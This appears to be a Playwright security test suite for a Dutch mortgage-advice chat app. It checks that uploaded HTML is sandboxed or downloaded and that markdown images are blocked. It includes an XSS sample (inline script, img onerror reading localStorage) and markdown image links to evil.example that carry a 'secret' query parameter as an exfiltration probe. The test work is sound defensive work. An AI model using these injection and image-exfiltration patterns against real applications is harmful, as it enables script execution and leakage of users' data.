import { expect, type Page, test } from "@playwright/test";
import { ChatPage, streamOnce } from "./pages/chat-page";
import { WorkspacePage } from "./pages/workspace";

/** Script a hostile document carries: it marks the app's window if it ever runs with the app's origin. */
const hostileHtml = `<!doctype html><html><body><p>Hypotheekvoorwaarden</p>
<script>try { top.__pwned = localStorage.length; } catch (e) {} document.body.dataset.ran = "1";</script>
<img src=x onerror="try { top.__pwned = 'onerror'; } catch (e) {}"></body></html>`;

const first = (dataPoints: string[]) => ({
  delta: { role: "assistant" },
  context: { data_points: dataPoints, thoughts: [] },
  session_state: null,
});
const chunk = (content: string) => ({ delta: { role: "assistant", content } });

/** Records every Content-Security-Policy violation the page (and its popups) reports. */
async function watchViolations(page: Page) {
  const violations: string[] = [];
  const listen = (target: Page) =>
    target.on("console", (message) => {
      if (/Content Security Policy|Content-Security-Policy/i.test(message.text())) violations.push(message.text());
    });
  listen(page);
  page.context().on("page", listen);
  return violations;
}

test.describe("security", () => {
  test("a cited HTML upload is shown in a frame without scripts or the app's origin", async ({ page }) => {
    const chat = new ChatPage(page);
    await chat.open("/chat");
    await page.getByTestId("open-files").click();
    await page
      .getByTestId("upload-input")
      .setInputFiles({ name: "Voorwaarden-aanval.html", mimeType: "text/html", buffer: Buffer.from(hostileHtml) });
    await expect(page.locator('[data-testid="file-row"][data-file="Voorwaarden-aanval.html"]')).toHaveAttribute(
      "data-status",
      /indexed|failed/,
    );
    await chat.closeSheet();
    await streamOnce(
      page,
      first(["Voorwaarden-aanval.html: Hypotheekvoorwaarden"]),
      chunk("Zie [Voorwaarden-aanval.html]."),
    );
    await chat.ask("Wat zeggen de voorwaarden?");
    await chat.lastAnswer().getByTestId("citation-link").first().click();
    const frame = chat.panel.getByTestId("citation-frame");
    await expect(frame).toHaveAttribute("sandbox", "");
    await expect(frame.contentFrame().locator("p")).toHaveText("Hypotheekvoorwaarden");
    await expect(frame.contentFrame().locator("body")).not.toHaveAttribute("data-ran", "1");
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  });

  test("markdown images load only from the app's content routes", async ({ page }) => {
    const outside: string[] = [];
    page.on("request", (request) => {
      if (new URL(request.url()).hostname.endsWith("evil.example")) outside.push(request.url());
    });
    const chat = new ChatPage(page);
    await chat.open("/chat");
    await streamOnce(
      page,
      first([]),
      chunk("Kijk: ![lek](https://evil.example/p.png?d=geheim) en ![ook](//evil.example/q.png) klaar."),
    );
    await chat.ask("Laat een plaatje zien");
    const answer = chat.lastAnswer();
    await expect(answer.getByTestId("blocked-image")).toHaveText(["lek", "ook"]);
    await expect(answer.locator("img")).toHaveCount(0);
    expect(outside).toEqual([]);
  });

  test("the landing page, the chat and the sign-in popup run under the CSP without violations", async ({ page }) => {
    const violations = await watchViolations(page);
    const landing = await page.goto("/");
    expect(landing?.headers()["content-security-policy"]).toContain("script-src 'self'");
    await expect(page.locator("#root")).not.toBeEmpty();
    const chat = new ChatPage(page);
    await chat.open("/chat");
    await expect(chat.emptyState).toBeVisible();
    expect(violations).toEqual([]);
  });

  test("'Open original' of a KYC document uploaded as .html downloads it instead of opening it in the app", async ({
    page,
  }) => {
    const desk = new WorkspacePage(page);
    await desk.signInAtBorrowers("bram@adviesdesk.example");
    await desk.openBorrower("Lotte Mulder");
    await desk.tab("kyc").click();
    await page.getByTestId("upload-identiteitsbewijs").setInputFiles({
      name: "paspoort-lotte.html",
      mimeType: "text/html",
      buffer: Buffer.from(hostileHtml),
    });
    const link = page.getByTestId("kyc-file-identiteitsbewijs");
    await expect(link).toHaveText("paspoort-lotte.html");
    let popups = 0;
    page.on("popup", () => {
      popups += 1;
    });
    const download = page.waitForEvent("download");
    await link.click();
    expect((await download).suggestedFilename()).toBe("paspoort-lotte.html");
    expect(popups).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  });
});
